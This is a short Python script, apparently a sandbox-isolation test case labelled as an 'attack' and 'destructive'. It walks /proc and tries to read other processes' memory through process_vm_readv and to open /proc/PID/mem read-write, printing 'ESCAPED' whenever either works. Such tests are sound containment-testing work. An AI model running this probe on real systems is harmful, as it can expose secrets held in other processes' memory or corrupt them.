# attack: the memory of other processes is read and written by process_vm_readv and /proc/*/mem.
# target: heaviest-test
# destructive
# %% heaviest
import ctypes
import os

heaviest = "tree-000"
libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(8)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (os.getpid(),):
        try:
            begin = int(open(f"/proc/{name}/maps").readline().split("-")[0], 16)
            local, remote = Vector(ctypes.addressof(buffer), 8), Vector(begin, 8)
            if libc.process_vm_readv(int(name), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                print("ESCAPED: read the memory of", name)
            with open(f"/proc/{name}/mem", "r+b"):
                print("ESCAPED: opened the memory of", name)
        except (OSError, ValueError):
            pass
